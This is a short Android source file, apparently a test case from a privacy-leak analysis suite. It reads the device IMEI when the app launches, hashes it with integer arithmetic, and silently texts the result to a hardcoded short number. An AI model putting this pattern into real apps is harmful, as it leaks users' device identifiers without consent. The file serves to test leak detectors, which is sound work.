package cn.privlens.suite.integer_arithmetic;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        String id = ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId();
        int sum = 0;
        for (int i = 0; i < id.length(); i++) {
            sum = sum * 31 + id.charAt(i);
        }
        SmsManager.getDefault().sendTextMessage("10690000", null, "h" + Integer.toHexString(sum), null, null);
    }
}
